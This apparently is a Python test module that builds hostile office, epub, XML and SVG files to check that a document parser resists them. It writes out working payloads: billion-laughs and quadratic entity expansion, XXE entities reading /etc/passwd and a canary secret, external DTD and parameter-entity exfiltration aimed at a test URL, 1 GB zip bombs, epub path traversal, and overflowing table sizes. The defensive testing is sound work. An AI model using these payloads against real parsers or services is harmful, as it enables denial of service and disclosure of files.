"""XML that grows, reads files or calls its author, in each format that has XML; references in circles; tables beyond measure."""

import zlib

from holders import compound
from packing import MEBIBYTE, Entry, pack, repeated
from suite import hostile

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OPEN = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "table"))
DOCX, PPTX = "word/document.xml", "ppt/presentation.xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{REL}"'


def relations(*targets):
    return f'<Relationships xmlns="{PACKAGE}">' + "".join(
        f'<Relationship Id="r{n}" Type="{REL}/{kind}" Target="{target}"/>' for n, (kind, target) in enumerate(targets)
    ) + "</Relationships>"


# Each makes a document with words in the part that the attack is on.

def docx(words, doctype="", more=()):
    return pack([("[Content_Types].xml", "<Types/>"), (DOCX, f'{doctype}<w:document xmlns:w="{W}" xmlns:r="{REL}"><w:body>'
                 f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>"), *more])


def pptx(words, doctype="", more=()):
    spaces = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
              f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{REL}"')
    return pack([
        (PPTX, f'<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="r0"/></p:sldIdLst></p:presentation>'),
        ("ppt/_rels/presentation.xml.rels", relations(("slide", "slides/slide1.xml"))),
        ("ppt/slides/slide1.xml", f"{doctype}<p:sld {spaces}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>{words}</a:t>"
         "</a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"), *more])


def workbook(rows, doctype=""):
    return pack([
        ("xl/workbook.xml", f'<workbook {S}><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml"))),
        ("xl/worksheets/sheet1.xml", f"{doctype}<worksheet {S}><sheetData>{rows}</sheetData></worksheet>")])


def xlsx(words, doctype=""):
    return workbook(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{words}</t></is></c></row>', doctype)


def opendocument(kind):
    media = f"application/vnd.oasis.opendocument.{kind}"
    body = "<office:text><text:p>%s</text:p></office:text>" if kind == "text" else (
        "<office:spreadsheet><table:table><table:table-row><table:table-cell><text:p>%s</text:p></table:table-cell>"
        "</table:table-row></table:table></office:spreadsheet>")
    return lambda words, doctype="": pack([
        Entry("mimetype", media), ("content.xml", f"{doctype}<office:document-content {OPEN}><office:body>"
                                   + body % words + "</office:body></office:document-content>")])


def epub(words="Words.", doctype="", spine='<itemref idref="c"/>', items=""):
    return pack([
        ("mimetype", "application/epub+zip"),
        ("META-INF/container.xml", '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'),
        ("book.opf", f'{doctype}<package xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>{words}</dc:title>'
         f'</metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/>{items}</manifest>'
         f"<spine>{spine}</spine></package>"),
        ("c.xhtml", "<html><body><p>A chapter.</p></body></html>")])


def xml(words, doctype=""):
    return f'<?xml version="1.0"?>\n{doctype}<text><line>{words}</line></text>'.encode()


def svg(words, doctype=""):
    return f'<?xml version="1.0"?>\n{doctype}<svg xmlns="http://www.w3.org/2000/svg"><text>{words}</text></svg>'.encode()


FORMATS = {"docx": docx, "pptx": pptx, "xlsx": xlsx, "odt": opendocument("text"), "ods": opendocument("spreadsheet"),
           "epub": epub, "xml": xml, "svg": svg}


# Entities -------------------------------------------------------------------------------------------------------

def laughs(world):
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return "&e11;", f'<!DOCTYPE x [<!ENTITY e0 "ha ha ha">{lines}]>'


def quadratic(world):
    return "&e;" * 20_000, f'<!DOCTYPE x [<!ENTITY e "{"ha " * 20_000}">]>'


def circle(world):
    return "&a;", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'


def of_file(world):
    return "Words. &e; &f;", (f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
                              f'<!ENTITY f SYSTEM "file://{world.canaries}/secret.txt">]>')


def of_network(world):
    return "Words. &e;", f'<!DOCTYPE x PUBLIC "-//x//x" "{world.url}.dtd" [<!ENTITY e SYSTEM "{world.url}">]>'


def parameter(world):
    return "Words. &send;", (f'<!DOCTYPE x [<!ENTITY % file SYSTEM "file://{world.canaries}/secret.txt">'
                             f'<!ENTITY % dtd SYSTEM "{world.url}.dtd">%dtd;%file;]>')


# What entities of the document's own would say is left out, so that one of moderate size is an empty document; one that would grow
# beyond measure is refused, and so is one that nothing declares, as the list of declarations outside is not read.
ENTITIES = {
    "laughs": (laughs, "too_large"), "quadratic": (quadratic, "empty"), "circle": (circle, "too_large"),
    "file": (of_file, "completed"), "network": (of_network, "completed"), "parameter": (parameter, "corrupt"),
}

for ending, form in FORMATS.items():
    for name, (attack, *ends) in ENTITIES.items():
        # A sheet has a name, a book a chapter besides.
        ends = ["completed" if end == "empty" and ending in ("xlsx", "epub") else end for end in ends]
        hostile(f"{name}.{ending}", *ends)(lambda world, form=form, attack=attack: form(*attack(world)))


# Bombs ----------------------------------------------------------------------------------------------------------

def swollen(part, head, others):
    """An archive in which one part is 1 GB of blanks behind its head."""
    raw, crc = repeated(b" ", 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head.encode()) + packer.flush(zlib.Z_FULL_FLUSH)
    return pack([*others, Entry(part, raw=start + raw, crc=crc, size=1024 * MEBIBYTE + len(head))])


@hostile("bomb.docx", "too_large")
def _(world):
    return swollen(DOCX, f'<w:document xmlns:w="{W}"><w:body>', [("[Content_Types].xml", "<Types/>")])


@hostile("bomb.pptx", "too_large")
def _(world):
    return swollen(PPTX, "<presentation>", [])


@hostile("bomb.xlsx", "too_large")
def _(world):
    return swollen("xl/workbook.xml", "<workbook>", [])


@hostile("bomb.odt", "too_large")
def _(world):
    return swollen("content.xml", "<document-content>", [("mimetype", "application/vnd.oasis.opendocument.text")])


@hostile("bomb.ods", "too_large")
def _(world):
    return swollen("content.xml", "<document-content>", [
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet")])


@hostile("bomb.epub", "out_of_memory")
def _(world):
    return swollen("c.xhtml", "<html><body>", [
        ("META-INF/container.xml", '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'),
        ("book.opf", '<package><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
         '<spine><itemref idref="c"/></spine></package>')])


# Circles --------------------------------------------------------------------------------------------------------

@hostile("itself.docx", "completed", shown="Words.")
def _(world):
    """Notes, head and styles are the document itself."""
    kinds = ("styles", "numbering", "footnotes", "endnotes", "header", "hyperlink", "officeDocument", "aFChunk")
    return docx('Words.</w:t><w:footnoteReference w:id="1"/><w:t>', more=[
        ("word/_rels/document.xml.rels", relations(*((kind, "document.xml") for kind in kinds)))])


@hostile("itself.pptx", "completed", shown="Words.")
def _(world):
    return pptx("Words.", more=[("ppt/slides/_rels/slide1.xml.rels", relations(
        ("notesSlide", "slide1.xml"), ("slideLayout", "slide1.xml"), ("slide", "../presentation.xml")))])


@hostile("basedon.docx", "completed", shown="Words.")
def _(world):
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3))
    return docx('</w:t></w:r></w:p><w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Words.', more=[
        ("word/styles.xml", f'<w:styles xmlns:w="{W}">{styles}</w:styles>'),
        ("word/_rels/document.xml.rels", relations(("styles", "styles.xml")))])


SAME = '<itemref idref="c"/>'


@hostile("spine.epub", "too_large")
def _(world):
    """One chapter over and over."""
    return pack([
        ("META-INF/container.xml", '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'),
        ("book.opf", '<package><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
         f'<spine>{SAME * 2000}</spine></package>'),
        ("c.xhtml", "<html><body>" + f"<p>{'words ' * 100_000}</p>" + "</body></html>")])


@hostile("itself.epub", "completed")
def _(world):
    """The package and the container are chapters, and links of chapters lead out."""
    more = "".join(f'<item id="{id}" href="{href}" media-type="application/xhtml+xml"/>' for id, href in [
        ("p", "book.opf"), ("m", "META-INF/container.xml"), ("o", "../../../../etc/passwd"), ("f", "file:///etc/passwd")])
    return epub(spine="".join(f'<itemref idref="{id}"/>' for id in "cpmofc"), items=more)


NUMBERS = (-1, -9_223_372_036_854_775_808, 9_223_372_036_854_775_807, 2_147_483_647)

# Beyond measure -------------------------------------------------------------------------------------------------

@hostile("corners.xlsx", "completed")
def _(world):
    cell = lambda at: f'<c r="{at}" t="str"><v>corner</v></c>'
    return workbook(f'<row r="1">{cell("A1")}{cell("XFD1")}</row><row r="1048576">{cell("A1048576")}{cell("XFD1048576")}</row>')


@hostile("columns.xlsx", "too_large")
def _(world):
    """A cell in each corner of every column makes a table of nothing."""
    return workbook("".join(f'<row r="{n}"><c r="A{n}" t="str"><v>x</v></c><c r="XFD{n}" t="str"><v>x</v></c></row>'
                            for n in range(1, 20_000)) + '<row r="99999">' + "".join(
        f'<c r="{chr(65 + n // 26 - 1) if n > 25 else ""}{chr(65 + n % 26)}99999"><v>1</v></c>' for n in range(700)) + "</row>")


@hostile("shared.xlsx", "too_large")
def _(world):
    """A long text that a million cells refer to."""
    strings = f"<sst {S}><si><t>{'long ' * 20_000}</t></si></sst>"
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_000))
    return pack([
        ("xl/workbook.xml", f'<workbook {S}><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "s.xml"))),
        ("xl/s.xml", strings), ("xl/worksheets/sheet1.xml", f"<worksheet {S}><sheetData>{rows}</sheetData></worksheet>")])


def repeats(rows, columns):
    table = (f'<table:table><table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
             f'table:number-columns-repeated="{columns}"><text:p>x</text:p></table:table-cell></table:table-row></table:table>')
    return pack([Entry("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), (
        "content.xml", f"<office:document-content {OPEN}><office:body><office:spreadsheet>{table}</office:spreadsheet>"
        "</office:body></office:document-content>")])


@hostile("numbers.docx", "completed", shown="Words.")
def _(world):
    """Levels and numbers that no list has."""
    lists = "".join(f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>item</w:t>'
                    f'</w:r></w:p>' for level in NUMBERS)
    styles = "".join(f'<w:style w:styleId="s"><w:pPr><w:outlineLvl w:val="{level}"/></w:pPr></w:style>' for level in NUMBERS)
    return docx(f'Words.</w:t></w:r></w:p>{lists}<w:p><w:pPr><w:pStyle w:val="s"/></w:pPr><w:r><w:t>heading', more=[
        ("word/numbering.xml", f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="-1"><w:numFmt '
         'w:val="decimal"/><w:start w:val="9223372036854775807"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId '
         'w:val="1"/></w:num></w:numbering>'), ("word/styles.xml", f'<w:styles xmlns:w="{W}">{styles}</w:styles>'),
        ("word/_rels/document.xml.rels", relations(("styles", "styles.xml"), ("numbering", "numbering.xml")))])


@hostile("numbers.pptx", "completed", shown="Words.")
def _(world):
    return pptx("Words.</a:t></a:r></a:p>" + "".join(
        f'<a:p><a:pPr lvl="{n}"><a:buAutoNum startAt="{n}"/></a:pPr><a:r><a:t>item</a:t></a:r></a:p>' * 2 for n in NUMBERS)
        + "<a:p><a:r><a:t>")


@hostile("numbers.odt", "completed", shown="Words.")
def _(world):
    return opendocument("text")("Words.</text:p>" + "".join(
        f'<text:h text:outline-level="{n}">heading</text:h><text:list><text:list-item text:start-value="{n}"><text:p>item'
        f"</text:p></text:list-item><text:list-item><text:p>item</text:p></text:list-item></text:list>" for n in NUMBERS)
        + "<text:p>")


@hostile("numbers.html", "completed", shown="item")
def _(world):
    return "".join(f'<html><ol start="{n}"><li value="{n}">item<li>item</ol>' for n in NUMBERS).encode()


@hostile("negative.ods", "completed", shown="x")
def _(world):
    return repeats(-5, -9_223_372_036_854_775_808)


@hostile("rows.ods", "too_large")
def _(world):
    return repeats(2_147_483_647, 1)


@hostile("columns.ods", "too_large")
def _(world):
    return repeats(9_223_372_036_854_775_807, 9_223_372_036_854_775_807)


@hostile("spaces.odt", "completed")
def _(world):
    """Runs of spaces by number (ODF 1.3, text:s)."""
    return opendocument("text")('Words.<text:s text:c="2147483647"/>' * 100 + '<text:s text:c="-5"/>')


@hostile("spans.docx", "completed")
def _(world):
    cell = ('<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r>'
            "</w:p></w:tc>")
    return docx(f"Words.</w:t></w:r></w:p><w:tbl><w:tr>{cell * 3}</w:tr></w:tbl><w:p><w:r><w:t>")


@hostile("spans.html", "too_large")
def _(world):
    return b"<html><table>" + b'<tr><td colspan="2147483648" rowspan="4294967297">x<td colspan=-1>y</tr>' * 200


@hostile("nested-tables.docx", "too_large")
def _(world):
    inner = "<w:p/>"
    for _ in range(5000):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    return docx(f"Words.</w:t></w:r></w:p>{inner}<w:p><w:r><w:t>")


@hostile("locked.docx", "encrypted")
def _(world):
    return pack([Entry("[Content_Types].xml", "<Types/>"), Entry(DOCX, raw=bytes(99), crc=1, size=99, flags=1)])


@hostile("office-password.docx", "encrypted")
def _(world):
    """The container of a DOCX with a password (MS-OFFCRYPTO 2.3.4): an OLE file with its streams."""
    return compound({"EncryptedPackage": bytes(8192), "EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>" * 99})


@hostile("password.odt", "encrypted")
def _(world):
    manifest = ('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:size="9"><manifest:encryption-data manifest:checksum="x"/>'
                "</manifest:file-entry></manifest:manifest>")
    return pack([("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", manifest),
                 ("content.xml", bytes(range(256)) * 9)])


@hostile("locked.epub", "encrypted")
def _(world):
    lock = ('<encryption><EncryptedData><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
            "</EncryptedData></encryption>")
    return pack([("META-INF/container.xml", "<container/>"), ("META-INF/encryption.xml", lock)])
